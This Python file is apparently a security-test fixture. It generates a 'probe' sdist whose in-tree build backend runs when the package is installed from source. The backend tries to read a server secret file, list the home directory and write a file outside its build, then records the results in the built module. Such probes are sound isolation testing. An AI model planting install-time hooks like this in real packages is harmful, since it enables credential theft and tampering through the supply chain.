"""A package whose build attacks the server: its in-tree build backend runs when the package
is installed from source, as a tenant's requirement can make it.

The backend tries to read the server's secret and list its home folder, and to write a file
outside its build; it reports what happened in the module it builds (``probe.FINDINGS``),
so the algorithm that imports it can answer with it.
"""

from __future__ import annotations

import io
import tarfile
import textwrap
from pathlib import Path

BACKEND = """
import base64
import hashlib
import os
import zipfile

SECRET, HOME, MARKER = {secret!r}, {home!r}, {marker!r}


def _try(action):
    try:
        return "worked: " + str(action())[:200]
    except Exception as exc:
        return "failed: " + type(exc).__name__


def _findings():
    return {{
        "uid": os.getuid(),
        "secret": _try(lambda: open(SECRET).read()),
        "home": _try(lambda: os.listdir(HOME)),
        "write": _try(lambda: open(MARKER, "w").write("written by a package build")),
    }}


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    dist = "probe-0.1.dist-info"
    files = {{
        "probe.py": "FINDINGS = " + repr(_findings()) + "\\n",
        dist + "/METADATA": "Metadata-Version: 2.1\\nName: probe\\nVersion: 0.1\\n",
        dist + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: probe\\nRoot-Is-Purelib: true\\n"
        "Tag: py3-none-any\\n",
    }}
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(path + ",sha256=" + digest.decode() + "," + str(len(text.encode())))
    files[dist + "/RECORD"] = "\\n".join(record + [dist + "/RECORD,,"]) + "\\n"
    name = "probe-0.1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
    return name
"""

PYPROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "probe"
version = "0.1"
"""


def hostile_sdist(secret: Path, home: Path, marker: Path) -> bytes:
    """``probe-0.1.tar.gz``: an sdist whose build backend is the attack."""
    files = {
        "probe-0.1/pyproject.toml": textwrap.dedent(PYPROJECT),
        "probe-0.1/backend.py": BACKEND.format(secret=str(secret), home=str(home),
                                               marker=str(marker)),
        "probe-0.1/PKG-INFO": "Metadata-Version: 2.1\nName: probe\nVersion: 0.1\n",
    }  # fmt: skip
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()
